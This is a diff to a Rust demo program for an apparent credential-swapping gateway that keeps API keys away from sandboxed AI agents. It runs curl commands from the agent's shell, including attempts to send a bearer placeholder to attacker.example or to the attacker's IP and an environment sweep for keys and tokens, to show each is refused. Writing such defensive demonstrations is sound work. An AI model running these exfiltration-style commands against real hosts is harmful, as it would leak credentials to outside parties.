@@ -1,21 +1,32 @@
 //! `make demo`: the story of one placeholder, told with the real bytes.
 //!
 //! It runs in namespaces of its own, needs no network, and leaves nothing behind. Every line that
-//! it prints was received, sent or logged by a real program; where one is not what the story
-//! promises, the demonstration ends with an error.
+//! it shows was received, sent or logged by a real program; where one is not what the story
+//! promises, the demonstration ends with an error, and so does one that takes too long.
+//!
+//! The keys are in a real Vault where one is found, or where `VAULT=1` asks for one; `VAULT=0`
+//! takes the file of secrets that the gateway comes with.
 
-use std::{process::ExitCode, time::Instant};
+use std::{
+    io::{self, IsTerminal as _, Write as _},
+    process::{Command, ExitCode},
+    sync::LazyLock,
+    thread,
+    time::{Duration, Instant},
+};
 
 use lab::{
     Lab, client,
     dns::Dns,
-    gateway::{self, Gateway, OPENAI_SECRET},
-    net::{AGENT, ATTACKER, OPENAI},
+    gateway::{self, Gateway, OPENAI_SECRET, SECRETS},
+    net::{AGENT, ATTACKER, OPENAI, PYPI},
     origin::Origin,
-    sandbox,
+    sandbox, tools,
     vault::{self, Vault},
     wait,
+    wire::Wire,
 };
+use serde_json::Value;
 
 fn main() -> ExitCode {
     if !sandbox::inside() {
@@ -23,80 +34,144 @@ fn main() -> ExitCode {
     }
     let begun = Instant::now();
     let mut scene = Scene::set();
-    scene.introduce();
     scene.the_agent_has_nothing_worth_stealing();
     scene.the_api_receives_the_key();
+    scene.the_same_over_http_2();
+    scene.what_the_api_repeats_is_masked();
     scene.the_placeholder_is_worth_nothing_elsewhere();
-    scene.a_let_through_host_keeps_its_own_certificate();
     scene.the_agents_own_key_is_refused();
+    scene.a_let_through_host_keeps_its_own_certificate();
+    scene.the_wire_never_held_the_key();
     scene.the_audit_says_what_happened();
     scene.a_dead_gateway_passes_nothing();
-    say(&format!("\nThat took {:.1} s. What to try next:\n{NEXT}", begun.elapsed().as_secs_f32()));
+    say(&format!("\nEverything above held; it took {:.1} s.", begun.elapsed().as_secs_f32()));
+    say(&format!("What to try next:\n{NEXT}"));
     ExitCode::SUCCESS
 }
 
+/// Runs this program again in a sandbox, for [`LIMIT`] at most.
 fn outside() -> ExitCode {
+    if wants_vault() == Some(true) && vault::find().is_none() && !fetch_vault() {
+        return failure("VAULT=1, and no Vault can be had");
+    }
     let program = std::env::current_exe().expect("a program knows where it is");
-    let status = sandbox::command(&program).env("RUST_BACKTRACE", "0").status();
-    match status {
-        Ok(status) if status.success() => ExitCode::SUCCESS,
-        Ok(_) => ExitCode::FAILURE,
-        Err(error) => {
-            eprintln!("demo: no namespaces: {error}; run tests/prerequisites");
-            ExitCode::FAILURE
+    let started = sandbox::command(&program).env("RUST_BACKTRACE", "0").spawn();
+    let mut story = match started {
+        Ok(story) => story,
+        Err(error) => return failure(&format!("no namespaces: {error}; run tests/prerequisites")),
+    };
+    match wait::until(LIMIT, || story.try_wait().transpose()) {
+        Some(Ok(status)) if status.success() => ExitCode::SUCCESS,
+        Some(Ok(status)) => failure(&format!("the story did not come to its end ({status})")),
+        Some(Err(error)) => failure(&error.to_string()),
+        None => {
+            // The namespaces end with their first process, and everything with them.
+            let ended = story.kill().and_then(|()| story.wait());
+            failure(&format!("no end after {LIMIT:?}; stopped ({ended:?})"))
         }
     }
+}
+
+fn failure(why: &str) -> ExitCode {
+    eprintln!("demo: {why}");
+    ExitCode::FAILURE
+}
+
+/// What the variable VAULT says; `None` leaves it to what is found.
+fn wants_vault() -> Option<bool> {
+    let value = std::env::var("VAULT").ok().filter(|value| !value.is_empty())?;
+    Some(value != "0")
+}
+
+fn fetch_vault() -> bool {
+    let status = Command::new(tools::repository().join("tests/vault/get")).status();
+    status.is_ok_and(|status| status.success()) && vault::find().is_some()
 }
 
 struct Scene {
     lab: Lab,
     origin: Origin,
     _dns: Dns,
-    vault: Option<Vault>,
+    _vault: Option<Vault>,
     gateway: Gateway,
+    wire: Wire,
 }
 
 impl Scene {
     fn set() -> Self {
+        say(NETWORK);
+        progress("four network namespaces, the API and the attacker's server");
         let lab = Lab::new();
         let (origin, dns) = (Origin::start(&lab), Dns::start());
-        let vault = vault::find().map(|_| Vault::start(&lab));
+        let use_vault = wants_vault().unwrap_or_else(|| vault::find().is_some());
+        let vault = use_vault.then(|| {
+            progress("a real Vault at https://203.0.113.200:8200, with an AppRole and the keys");
+            Vault::start(&lab)
+        });
         let config = match &vault {
             Some(vault) => gateway::vault_config(&vault.config()),
-            None => gateway::usual_config(),
+            None => {
+                progress("the keys in a file for the gateway alone (VAULT=1 takes a real Vault)");
+                gateway::usual_config()
+            }
         };
+        progress("the guard, the certificates, the gateway");
         let gateway = Gateway::start(&lab, &config);
-        Self { lab, origin, _dns: dns, vault, gateway }
-    }
-
-    fn introduce(&self) {
-        let keeper = match self.vault {
-            Some(_) => "a real Vault, at https://203.0.113.200:8200",
-            None => "a file that only the gateway can read (VAULT=1 make demo takes a real Vault)",
-        };
-        say(&format!("{NETWORK}\nThe keys are in {keeper}."));
+        let wire = Wire::tap(&lab, AGENT);
+        Self { lab, origin, _dns: dns, _vault: vault, gateway, wire }
     }
 
     fn the_agent_has_nothing_worth_stealing(&self) {
         chapter("What the agent holds");
         let output = self.agent("echo $OPENAI_API_KEY");
         check(output.trim() == "OPENAI_API_KEY", "the variable holds its own name");
+        let files = self.agent("env | grep -E 'KEY|TOKEN' | sort");
+        check(!SECRETS.iter().any(|it| files.contains(it)), "and so do the others");
     }
 
     fn the_api_receives_the_key(&self) {
-        chapter("A request to the API it belongs to");
+        chapter("A request to the API that the placeholder belongs to");
         let output = self.agent(
-            "curl -sS -w '\\n%{http_code}\\n' https://api.openai.example/v1/chat/completions \\\n    \
-             --http1.1 -H \"Authorization: Bearer $OPENAI_API_KEY\" -d '{\"model\":\"lab-1\"}'",
+            "curl -sS --http1.1 -w '\\n%{http_code}\\n' \\\n    \
+             https://api.openai.example/v1/chat/completions \\\n    \
+             -H \"Authorization: Bearer $OPENAI_API_KEY\" \\\n    \
+             -d '{\"model\":\"lab-1\",\"prompt\":\"what is OPENAI_API_KEY?\"}'",
         );
-        check(output.trim().ends_with("200"), "the API answers 200");
+        check(output.trim().ends_with("\n200"), "the API answers 200");
         let connections = self.origin.log().connections();
         let received = connections.last().map_or(&[][..], |connection| &connection.bytes);
         let received = String::from_utf8_lossy(received).into_owned();
-        note("The API received, byte for byte after decryption:");
+        note("What the API received, byte for byte after decryption:");
         shown(&received);
-        check(received.matches(OPENAI_SECRET).count() == 1, "the key is there, once");
-        check(!received.contains("OPENAI_API_KEY"), "and the placeholder is not");
+        let line = format!("authorization: Bearer {OPENAI_SECRET}\r\n");
+        check(received.to_lowercase().contains(&line.to_lowercase()), "the key in its place");
+        check(received.matches(OPENAI_SECRET).count() == 1, "once");
+        check(received.matches("OPENAI_API_KEY").count() == 1, "a prompt is not searched");
+        check(!output.contains(OPENAI_SECRET), "the agent saw nothing of it");
+    }
+
+    fn the_same_over_http_2(&self) {
+        chapter("The same over HTTP/2");
+        let output = self.agent(
+            "curl -sS --http2 -o /dev/null -w 'HTTP/%{http_version} %{http_code}\\n' \\\n    \
+             https://api.openai.example/v1/models -H \"Authorization: Bearer $OPENAI_API_KEY\"",
+        );
+        check(output.trim() == "HTTP/2 200", "the API answers 200");
+        let requests = self.origin.log().requests();
+        let fields = requests.last().map(|request| request.header("authorization"));
+        let fields = fields.unwrap_or_default();
+        note("The API received:");
+        shown(&format!("authorization: {}", fields.join(", ")));
+        check(fields == [format!("Bearer {OPENAI_SECRET}")], "the key in its place, once");
+    }
+
+    fn what_the_api_repeats_is_masked(&self) {
+        chapter("An API that repeats what it was sent");
+        let output = self.agent(
+            "curl -sS -i https://api.openai.example/reflect \\\n    \
+             -H \"Authorization: Bearer $OPENAI_API_KEY\"",
+        );
+        check(output.contains("you sent Bearer *"), "masked on its way back, head and body");
         check(!output.contains(OPENAI_SECRET), "the agent saw nothing of it");
     }
 
@@ -104,59 +179,87 @@ impl Scene {
         chapter("The same placeholder, sent somewhere else");
         let before = self.origin.log().connections().len();
         let bearer = "-H \"Authorization: Bearer $OPENAI_API_KEY\"";
+        aside("To a host that no policy lists:");
         self.agent_fails(&format!("curl -sS {bearer} https://attacker.example/"));
         self.reason("sni_denied");
+        aside("To another API:");
         let other =
             self.agent(&format!("curl -sS {bearer} https://api.anthropic.example/v1/models"));
-        check(other.contains("placeholder_wrong_host"), "at another API it is refused as well");
+        check(other.contains("\"placeholder_wrong_host\""), "refused, with the reason");
+        aside("In clear text:");
         let clear = self.agent(&format!("curl -sS {bearer} http://api.openai.example/v1/models"));
-        check(clear.contains("plaintext_placeholder"), "nor does it go out in clear text");
-        // The attacker's address under the API's name: dialled by name, so it is never reached.
-        let resolve = format!("--connect-to ::{}:443", ATTACKER.v4());
-        self.agent(&format!(
-            "curl -sS {resolve} -o /dev/null -w '%{{http_code}} from %{{remote_ip}}\\n' {bearer} \\\n    \
-             https://api.openai.example/v1/models"
+        check(clear.contains("\"plaintext_placeholder\""), "refused, with the reason");
+        aside("To the API's name at the attacker's address:");
+        let attacker = ATTACKER.v4();
+        let output = self.agent(&format!(
+            "curl -sS -4 --connect-to ::{attacker}:443 -o /dev/null {bearer} \\\n    \
+             -w '%{{http_code}} from %{{remote_ip}}\\n' https://api.openai.example/v1/models"
         ));
-        note(
-            "That 200 is the API's: the gateway dialled its name, not the address that was asked for.",
-        );
+        check(output.trim() == format!("200 from {attacker}"), "the agent believes it is there");
         let new = self.origin.log().connections().split_off(before);
-        let places: Vec<_> = new.iter().map(|connection| connection.local.ip()).collect();
-        let attacked = places.contains(&ATTACKER.v4().into());
-        check(!attacked, "the attacker's server, 198.51.100.66, saw no connection");
-        let held = new.iter().filter(|it| it.sni.as_deref() != Some(OPENAI.name));
-        let leaked = held.filter(|connection| connection.count(OPENAI_SECRET) > 0).count();
-        check(leaked == 0, "and no other host saw the key");
+        let attacked = new.iter().any(|connection| connection.local.ip() == attacker);
+        check(!attacked, "the attacker's server saw no connection: the gateway dials the name");
+        let others = new.iter().filter(|it| it.sni.as_deref() != Some(OPENAI.name));
+        let leaked = others.filter(|connection| connection.count(OPENAI_SECRET) > 0).count();
+        check(leaked == 0, "no other host saw the key");
+    }
+
+    fn the_agents_own_key_is_refused(&self) {
+        chapter("A key that the agent brought along");
+        let before = self.origin.log().requests().len();
+        let output = self.agent(
+            "curl -sS https://api.openai.example/v1/models \\\n    \
+             -H 'Authorization: Bearer sk-the-attackers-own-account'",
+        );
+        check(output.contains("\"foreign_credential\""), "the classic way out is closed");
+        check(self.origin.log().requests().len() == before, "the API received nothing");
     }
 
     fn a_let_through_host_keeps_its_own_certificate(&self) {
         chapter("A host that policy lets through untouched");
         let issuer = |host: &str| {
-            format!("curl -sS -v https://{host}/v1/x 2>&1 | grep -E 'issuer:' | sed 's/^\\* *//'")
+            format!("curl -sS -v https://{host}/v1/x 2>&1 | sed -n 's/^\\*  *issuer/issuer/p'")
         };
-        let own = self.agent(&issuer("pypi.example"));
+        let own = self.agent(&issuer(PYPI.name));
         check(own.contains("Lab public root"), "end to end: its own certificate");
-        let ours = self.agent(&issuer("api.openai.example"));
-        check(!ours.contains("Lab public root"), "where keys are swapped, TLS ends at the gateway");
+        let ours = self.agent(&issuer(OPENAI.name));
+        check(
+            ours.contains("Cloakroom"),
+            "only where keys are swapped does TLS end at the gateway",
+        );
     }
 
-    fn the_agents_own_key_is_refused(&self) {
-        chapter("A key that the agent brought along");
-        let output = self.agent(
-            "curl -sS https://api.openai.example/v1/models \\\n    \
-             -H 'Authorization: Bearer sk-the-attackers-own-account'",
-        );
-        check(output.contains("foreign_credential"), "the classic way out is closed");
+    fn the_wire_never_held_the_key(&self) {
+        chapter("Every packet on the agent's link, decrypted with the agent's own TLS keys");
+        let sessions = self.wire.sessions();
+        let bytes: usize = sessions.iter().map(|it| it.sent.len() + it.received.len()).sum();
+        note(&format!("{} TLS connections, {bytes} bytes of clear text", sessions.len()));
+        let found = sessions.iter().filter(|session| session.sends("OPENAI_API_KEY")).count();
+        check(found > 3, &format!("the placeholder is in {found} of them"));
+        self.wire.assert_never(&SECRETS);
+        check(true, "no key is in any, plainly, in Base64 or in HPACK's code");
     }
 
     fn the_audit_says_what_happened(&self) {
-        chapter("What the audit says (the last lines)");
-        let text = self.gateway.audit.text();
-        let lines: Vec<&str> = text.lines().collect();
-        for line in lines.iter().skip(lines.len().saturating_sub(6)) {
-            note(line);
+        chapter("What the audit says");
+        // A connection's record is written when it has ended.
+        thread::sleep(wait::QUIET);
+        let records = self.gateway.audit.records();
+        let told =
+            |record: &&Value| record["record"] == "request" || record["decision"] == "refuse";
+        let told: Vec<_> = records.iter().filter(told).collect();
+        for record in &told {
+            note(&summary(record));
         }
-        check(!text.contains(OPENAI_SECRET), "no key is in the audit");
+        let swapped = told.iter().position(|record| record["upstream_status"] == 200);
+        check(swapped.is_some(), "each request, and each refused connection, is one record");
+        aside("The first of them as it is in the file:");
+        let text = self.gateway.audit.text();
+        let line = text.lines().find(|line| line.contains("\"upstream_status\":200"));
+        for part in line.unwrap_or_default().as_bytes().chunks(WIDTH) {
+            shown(&String::from_utf8_lossy(part));
+        }
+        check(!SECRETS.iter().any(|secret| text.contains(secret)), "names of keys, and no key");
     }
 
     fn a_dead_gateway_passes_nothing(&mut self) {
@@ -165,7 +268,7 @@ impl Scene {
         gateway::forward();
         let before = self.origin.log().connections().len();
         self.agent_fails("curl -sS --max-time 3 https://pypi.example/");
-        std::thread::sleep(wait::QUIET);
+        thread::sleep(wait::QUIET);
         let after = self.origin.log().connections().len();
         check(before == after, "the gateway's kernel would forward; its guard does not");
     }
@@ -182,9 +285,10 @@ impl Scene {
     }
 
     fn run(&self, line: &str) -> (bool, String) {
-        say(&format!("\n  agent$ {line}"));
-        let mut shell = client::agent(&self.lab, AGENT, "sh");
-        let output = shell.args(["-c", line]).output().expect("a shell starts");
+        say(&format!("\n  {} {}", PAINT.dim("agent$"), PAINT.bold(line)));
+        let mut shell = client::agent(&self.lab, AGENT, "timeout");
+        shell.env("SSLKEYLOGFILE", self.wire.keys()).args(["20", "sh", "-c", line]);
+        let output = shell.output().expect("a shell starts");
         let text = [output.stdout, output.stderr].concat();
         let text = String::from_utf8_lossy(&text).into_owned();
         shown(&text);
@@ -193,25 +297,56 @@ impl Scene {
 
     fn reason(&self, reason: &str) {
         let record = self.gateway.audit.wait_reason(reason);
-        note(&format!("audit: {} {}", record["decision"], record["reason"]));
+        note(&format!("The audit: {}", summary(&record)));
     }
 }
 
+/// A record on one line; every word is the record's.
+fn summary(record: &Value) -> String {
+    let word = |name: &str| record[name].as_str().unwrap_or_default().to_owned();
+    let what = if record["record"] == "request" {
+        format!("{} {}{}", word("method"), word("host"), word("path"))
+    } else {
+        let name = [word("sni"), word("host")].concat();
+        format!("connect {} for {name}", word("dialled"))
+    };
+    let status = record["upstream_status"].as_u64().map(|status| status.to_string());
+    let placeholder = record["placeholders"][0].as_str().map(str::to_owned);
+    let rest = [Some(word("reason")), placeholder, status].into_iter().flatten();
+    let rest: Vec<_> = rest.filter(|word| !word.is_empty()).collect();
+    format!("{:<9} {what:<58} {}", word("decision"), rest.join(" "))
+}
+
 fn say(text: &str) {
-    println!("{text}");
+    // Whoever closed the pipe has seen enough.
+    let _ = writeln!(io::stdout(), "{text}");
+}
+
+fn progress(step: &str) {
+    say(&format!("  {} {step}", PAINT.dim("...")));
 }
 
 fn chapter(title: &str) {
-    say(&format!("\n-- {title} {}", "-".repeat(70_usize.saturating_sub(title.len()))));
+    let rule = "-".repeat(76_usize.saturating_sub(title.len()));
+    say(&format!("\n{} {}", PAINT.bold(title), PAINT.dim(&rule)));
 }
 
 fn note(text: &str) {
     say(&format!("  {text}"));
 }
 
+fn aside(text: &str) {
+    say(&format!("\n  {text}"));
+}
+
+/// Shows a program's output or bytes from the wire; long lines end with an ellipsis.
 fn shown(text: &str) {
     for line in text.lines() {
-        say(&format!("  | {line}"));
+        let mut line = line.replace(|letter: char| letter.is_control(), "");
+        if line.chars().count() > WIDTH {
+            line = line.chars().take(WIDTH).chain(['…']).collect();
+        }
+        say(&format!("  {} {}", PAINT.dim("|"), PAINT.keys(&line)));
     }
 }
 
@@ -221,8 +356,45 @@ fn check(holds: bool, claim: &str) {
         eprintln!("demo: this does not hold: {claim}");
         std::process::exit(1);
     }
-    say(&format!("  => {claim}"));
+    say(&format!("  {} {claim}", PAINT.good("=>")));
 }
+
+/// Colours, where a person looks.
+struct Paint(bool);
+
+impl Paint {
+    fn bold(&self, text: &str) -> String {
+        self.with("1", text)
+    }
+
+    fn dim(&self, text: &str) -> String {
+        self.with("2", text)
+    }
+
+    fn good(&self, text: &str) -> String {
+        self.with("32", text)
+    }
+
+    /// Marks keys and placeholders in a line.
+    fn keys(&self, line: &str) -> String {
+        let line = line.replace(OPENAI_SECRET, &self.with("31;1", OPENAI_SECRET));
+        line.replace("OPENAI_API_KEY", &self.with("33", "OPENAI_API_KEY"))
+    }
+
+    fn with(&self, code: &str, text: &str) -> String {
+        if self.0 { format!("\x1b[{code}m{text}\x1b[0m") } else { text.to_owned() }
+    }
+}
+
+static PAINT: LazyLock<Paint> = LazyLock::new(|| {
+    let unwanted = std::env::var_os("NO_COLOR").is_some_and(|value| !value.is_empty());
+    Paint(io::stdout().is_terminal() && !unwanted)
+});
+
+/// A story that takes longer is stuck.
+const LIMIT: Duration = Duration::from_secs(55);
+/// Letters of a line of output that are shown.
+const WIDTH: usize = 100;
 
 const NETWORK: &str = "
   agent  192.0.2.10 ───┐
@@ -230,10 +402,10 @@ const NETWORK: &str = "
   agent2 192.0.2.140 ──┘                        pypi.example         198.51.100.30
                                                 attacker.example     198.51.100.66
 
-Four network namespaces on this machine; the gateway is the agents' default route.";
+Network namespaces on this machine; the gateway is the agents' default route.";
 
 const NEXT: &str = "
   make test                        every promise, as a test that looks at what the API received
-  VAULT=1 make demo                the same with a real Vault (downloaded or built once)
+  VAULT=1 make demo                with a real Vault (downloaded or built once); VAULT=0 without
   target/debug/cloakroom --help    the program
   tests/lab/gateway.rs             the policy that you have just seen at work";
